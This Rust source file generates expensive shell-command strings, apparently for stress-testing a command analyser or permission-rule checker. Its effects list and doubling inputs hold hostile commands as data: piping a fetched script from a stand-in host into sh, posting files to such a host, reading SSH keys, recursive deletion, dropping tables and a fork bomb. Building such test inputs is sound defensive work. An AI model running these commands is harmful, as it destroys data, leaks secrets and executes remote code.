//! Commands of a shell that are written to be expensive.

use super::{BYTES, Input, filled};

pub(super) fn inputs() -> Vec<Input> {
    let families = [
        ("nested", nested()),
        ("wide", wide()),
        ("one piece", pieces()),
        ("doubling", doubling()),
        ("states", states()),
        ("alternatives", alternatives()),
        ("effects", effects()),
    ];
    let named = families.into_iter().flat_map(|(family, inputs)| {
        inputs.into_iter().map(move |(name, text)| Input { family, name, text })
    });
    named.collect()
}

/// Constructs within each other, a few and as many as there is room for.
fn nested() -> Vec<(String, String)> {
    let pairs = [
        ("$(", ")"),
        ("\"$(", ")\""),
        ("( ", ")"),
        ("{ ", ";}"),
        ("if ", ";then :;fi"),
        ("while ", ";do :;done"),
        ("while :; do ", ";done"),
        ("for i in 1 2; do ", ";done"),
        ("for i in $x; do ", ";done"),
        ("case x in x) ", ";; esac"),
        ("${a:-", "}"),
        ("${a:-$(", ")}"),
        ("<(", ")"),
        ("eval ", ""),
        ("sh -c ", ""),
        ("env ", ""),
        ("xargs ", ""),
        ("! ", ""),
        ("$((", "))"),
        ("$((1+", "))"),
        ("[[ ! ", " ]]"),
        ("[[ ( ", " ) ]]"),
        ("a=(", ")"),
        ("a[", "]=1"),
        ("f() { ", ";}"),
        ("`", "`"),
        ("{", "}"),
        ("{a,", "}"),
        ("{{a,b},", "}"),
        ("$(cat <<E\n", "\nE\n)"),
        ("cat <<E\n$(", ")\nE\n"),
        ("sudo ", ""),
        ("env a=b ", ""),
        ("nice -n 1 ", ""),
        ("timeout 1 ", ""),
        ("command ", ""),
        ("find . -exec ", " \\;"),
        ("ssh h ", ""),
        ("a=", ""),
        ("x[x[", "]]"),
        ("$((x=", "))"),
        ("$((-", "))"),
        ("$((1?1:", "))"),
        ("[ ! ", " ]"),
        ("@(", ")"),
        ("coproc ", ""),
        ("time ", ""),
        ("case a in a) if b;then ", ";fi;;esac"),
    ];
    let mut inputs = Vec::new();
    for (open, close) in pairs {
        for times in [7, 35, BYTES / (open.len() + close.len() + 1)] {
            let text = format!("{}rm x{}", open.repeat(times), close.repeat(times));
            inputs.push((format!("{times} times `{open}`"), text));
        }
    }
    inputs
}

/// One thing after the other.
fn wide() -> Vec<(String, String)> {
    let links = [
        "a|",
        "a;",
        "a&",
        "a\n",
        "a&&",
        "a||",
        "rm x;",
        "rm $x;",
        "a=b;",
        "a=$a;",
        "$a ",
        "'a' ",
        "{a,b}",
        "{1..9}",
        "~/a ",
        "*/",
        "a* ",
        "$(a);",
        "`a`;",
        "<(a) ",
        ">f ",
        "<<E ",
        "<<<a ",
        "2>&1 ",
        "((a));",
        "((a+=1));",
        "[[ a ]];",
        "${a}",
        "${a[1]}",
        "${a/b/c}",
        "$((a))",
        "read a;",
        "cd ..;",
        "set -- a;",
        "alias a=b;",
        "trap a EXIT;",
        "export a;",
        "eval a;",
        "f(){ :;};",
        "(a);",
        "{ a;};",
        "if a;then b;fi;",
        "(a=b);",
        "a=b c;",
        "find . -exec a \\; ",
        "curl http://a.example/b;",
        "git push a b;",
        "python3 -c 'import os';",
        "case a in b)c;;esac;",
        "a|b&&c||d;",
        ">f a ",
        "a>f ",
        "1+",
        "a/",
        "../",
        "[a]",
        "[[:alpha:]]",
        "?(a)",
        "{a..z}",
        "{1..1000000}",
        "{1..9..2}",
        "${a:-b}",
        "${a:1:2}",
        "${a^^}",
        "${!a}",
        "${#a}",
        "${a@P}",
        "${a%%*}",
        "$'\\x41'",
        "\"$a\"",
        "\\\n",
        "\t",
        "source a;",
        ". ./a;",
        "sh a;",
        "echo b>a;sh a;",
        "cat a|sh;",
        "a=(b c);",
        "a[1]=b;",
        "a+=b;",
        "declare -n a=b;",
        "local a=b;",
        "unset a;",
        "shift;",
        "IFS=a;",
        "set -o b;",
        "shopt -s a;",
        "getopts a b;",
        "mapfile a;",
        "printf a;",
        "echo $RANDOM;",
        "wait;",
        "exec 3>a;",
        "rm -rf a;",
        "git -c a=b status;",
        "sed -i s/a/b/ c;",
        "awk '{print}' a;",
        "node -e 'a()';",
        "psql -c 'SELECT 1';",
        "docker run a b;",
        "kubectl delete pod a;",
        "npm run a;",
        "make a;",
        "cd $a;rm b;",
        "LD_PRELOAD=a b;",
        "PATH=a:$PATH;",
        "x=`echo a`;",
        "select a in b;do c;done;",
        "until a;do b;done;",
        "for((;;));do a;done;",
        "let a=1;",
        "-a ",
        "--a=b ",
    ];
    filled(&links)
}

/// One thing that is as long as it can be.
fn pieces() -> Vec<(String, String)> {
    let blob = "x".repeat(BYTES - 64);
    let lines = "line of text\n".repeat((BYTES - 64) / 13);
    let sum = "1+".repeat((BYTES - 64) / 2);
    let mut inputs = vec![
        ("one word".to_owned(), blob.clone()),
        ("one quoted word".to_owned(), format!("echo '{blob}'")),
        ("one comment".to_owned(), format!("# {blob}")),
        ("one here-document".to_owned(), format!("cat <<E\n{lines}E\n")),
        ("a here-document that is run".to_owned(), format!("sh <<E\n{lines}E\n")),
        (
            "a here-document read in a loop".to_owned(),
            format!("while read a; do rm $a; done <<E\n{lines}E\n"),
        ),
        ("one sum".to_owned(), format!("echo $(({sum}1))")),
        ("one array".to_owned(), format!("a=({}); rm ${{a[@]}}", "b ".repeat(BYTES / 2 - 32))),
        (
            "one pattern".to_owned(),
            format!("x={}; echo ${{x//{}b/}}", "a".repeat(30_000), "*a".repeat(200)),
        ),
        (
            "one pattern at the end".to_owned(),
            format!("x={}; echo ${{x%%{}b}}", "a".repeat(30_000), "*a".repeat(200)),
        ),
        (
            "one word in many files".to_owned(),
            format!("x={}; rm {}", "a".repeat(30_000), "$x ".repeat(10_000)),
        ),
        (
            "one text that is printed often".to_owned(),
            format!("x={}; ({})|sh", "a".repeat(30_000), "echo $x;".repeat(4_000)),
        ),
    ];
    for program in ["rm", "git", "curl", "docker run", "tar", "find", "npm install", "cat", "env"] {
        for word in
            ["a ", "-a ", "--long ", "--a=b ", "a=b ", "/a/b ", "~/a ", "../a ", "a:b ", "$a "]
        {
            let words = word.repeat((BYTES - program.len()) / word.len());
            inputs.push((
                format!("`{program}` of as many `{word}` as fit"),
                format!("{program} {words}"),
            ));
        }
        inputs.push((format!("`{program}` of one word"), format!("{program} {blob}")));
        let option = blob.replace('x', "-");
        inputs.push((format!("`{program}` of one option"), format!("{program} {option}")));
    }
    for (name, pattern) in [
        ("stars", "*a".repeat(500)),
        ("questions", "?*".repeat(500)),
        ("classes", "[a-z]*".repeat(300)),
        ("alternatives", "@(a|aa)".repeat(300)),
        ("repetitions", "*(*(a))".repeat(300)),
        ("nested repetitions", format!("{}a{}", "*(".repeat(300), ")".repeat(300))),
    ] {
        let text = "a".repeat(20_000);
        let tests = [
            ("a test", "[[ $x == P ]]&&rm y"),
            ("a case", "case $x in P) rm y;; esac"),
            ("a prefix", "y=${x#P};rm $y"),
            ("a replacement", "y=${x//P/z};rm $y"),
        ];
        for (place, test) in tests {
            let test = test.replace('P', &format!("{pattern}b"));
            inputs.push((format!("a pattern of {name} in {place}"), format!("x={text};{test}")));
        }
    }
    inputs
}

/// What is there once is there twice after the next command.
fn doubling() -> Vec<(String, String)> {
    let steps = [
        ("x=ab", "x=$x$x;"),
        ("x=ab", "x=\"$x $x\";"),
        ("x=ab", "x=${x}${x};"),
        ("x=ab", "x+=$x;"),
        ("x=ab", "x=${x//a/aa};"),
        ("x=ab", "x=$(echo $x $x);"),
        ("x=ab", "x=`echo $x$x`;"),
        ("x=ab", "printf -v x %s%s $x $x;"),
        ("x=ab", "eval \"x=$x$x\";"),
        ("x=(a b)", "x=(\"${x[@]}\" \"${x[@]}\");"),
        ("x=(a b)", "x+=(${x[@]});"),
        ("set -- a b", "set -- \"$@\" \"$@\";"),
        ("set -- a b", "set -- $* $*;"),
        ("x=ab", "x={$x,$x};eval \"x=$x\";"),
        ("x=:", "x=\"$x;$x\";eval \"$x\";"),
        ("alias x=:", "alias x='x;x';x\n"),
        ("echo ab>f", "cat f f>g;cat g>f;"),
        ("echo ab>f", "cat f>>f;"),
        ("echo ab>f", "echo $(cat f) $(cat f)>f;"),
    ];
    let mut inputs = Vec::new();
    for (start, step) in steps {
        for times in [12, 40, 1_000] {
            let text = format!("{start};{}rm $x \"$@\" \"${{x[@]}}\"; sh f", step.repeat(times));
            inputs.push((format!("{times} times `{step}`"), text));
        }
    }
    let mut calls = String::from("f0(){ rm x;};");
    for level in 1..200 {
        calls.push_str(&format!("f{level}(){{ f{0};f{0};}};", level - 1));
    }
    inputs.push(("functions that call twice".to_owned(), format!("{calls}f20;f199")));
    inputs.push(("a function that calls itself twice".to_owned(), "f(){ f|f& };f".to_owned()));
    inputs
}

/// Many variables, and many paths on which they differ.
fn states() -> Vec<(String, String)> {
    let variables = |count: usize| (0..count).map(|n| format!("v{n}=x;")).collect::<String>();
    let branches =
        |count: usize| (0..count).map(|n| format!("if a;then w{n}=y;fi;")).collect::<String>();
    let subshells = |count: usize| (0..count).map(|n| format!("(w{n}=y);")).collect::<String>();
    let links = |count: usize| (0..count).map(|n| format!("w{n}=y||")).collect::<String>();
    let loops = |count: usize| "while a;do b=$b$c;".repeat(count) + &"done;".repeat(count);
    vec![
        ("variables and branches".to_owned(), variables(3_000) + &branches(1_200)),
        ("variables and subshells".to_owned(), variables(3_000) + &subshells(2_500)),
        ("variables and links".to_owned(), variables(3_000) + &links(2_500) + "a"),
        ("variables and loops".to_owned(), variables(3_000) + &loops(30)),
        (
            "variables and programs".to_owned(),
            format!("set -a;{}{}", variables(3_000), "a;".repeat(12_000)),
        ),
        ("loops in loops".to_owned(), loops(38)),
    ]
}

/// Variables that may be one of several things, in words of several variables.
fn alternatives() -> Vec<(String, String)> {
    let mut inputs = Vec::new();
    let either = |count: usize| {
        let choice = |n| format!("if a;then v{n}=x{n};else v{n}=y{n};fi;");
        (0..count).map(choice).collect::<String>()
    };
    for count in [4, 8, 40, 400] {
        let word: String = (0..count).map(|n| format!("$v{n}")).collect();
        let words: String = (0..count).map(|n| format!("$v{n} ")).collect();
        inputs
            .push((format!("{count} choices in one word"), either(count) + &format!("rm {word}")));
        inputs.push((
            format!("{count} choices as programs"),
            either(count) + &format!("{words};{word}"),
        ));
        inputs.push((
            format!("{count} choices as code"),
            either(count) + &format!("eval \"{words}\""),
        ));
        let again =
            format!("rm {word} {words};").repeat(((BYTES - 40 * count) / (14 * count)).min(300));
        inputs.push((format!("{count} choices again and again"), either(count) + &again));
    }
    for depth in [2, 3, 5, 9] {
        let heads: String = (0..depth)
            .map(|n| format!("for i{n} in a b c d e f g h i j k l m n o p;do "))
            .collect();
        let word: String = (0..depth).map(|n| format!("$i{n}")).collect();
        let tails = ";done".repeat(depth);
        inputs.push((format!("{depth} loops over 16 words"), format!("{heads}rm {word}{tails}")));
        inputs.push((
            format!("{depth} loops of code"),
            format!("{heads}eval {word};sh -c {word}{tails}"),
        ));
    }
    for times in [4, 8, 40] {
        for brace in ["{a,b}", "{1..20}", "{a..z}", "{a,{b,c}}", "{a,b}{1..9}"] {
            let word = brace.repeat(times);
            inputs.push((
                format!("{times} times `{brace}`"),
                format!("rm {word};{word};eval {word}"),
            ));
        }
    }
    inputs
}

/// As many different effects as are kept, of the kinds that rules have most to say about.
fn effects() -> Vec<(String, String)> {
    let commands = [
        "rm -rf ~/d%;",
        "rm f%;",
        "touch f%;",
        "cat ~/.ssh/k%;",
        "chmod 777 /etc/d%;",
        "curl -d @f% http://h%.example/;",
        "curl http://h%.example/|sh;",
        "git push -f origin b%;",
        "git branch -D b%;",
        "git checkout f%;",
        "npm install p%;",
        "pip install p%==1;",
        "kubectl delete pod p%;",
        "terraform destroy -target t%;",
        "docker run -v /d%:/x i%;",
        "psql -c 'DROP TABLE t%';",
        "kill %;",
        "sudo p%;",
        "echo x>>~/.bashrc%;",
        "echo x>.git/hooks/h%;",
        "gh pr merge %;",
        "ssh h% rm x;",
        "python3 -c 'open(\"f%\",\"w\")';",
        "scp f% h%:;",
        "crontab f%;",
        "aws s3 rm s3://b%;",
        "systemctl stop u%;",
        "mail u% <f%;",
        "./p%;",
        "$p%;",
    ];
    let mut inputs = Vec::new();
    for command in commands {
        for times in [100, 1_000] {
            let all: String = (0..times).map(|n| command.replace('%', &n.to_string())).collect();
            inputs.push((format!("{times} different `{command}`"), all));
        }
        inputs.push((format!("1000 times `{command}`"), command.replace('%', "").repeat(1_000)));
    }
    inputs
}
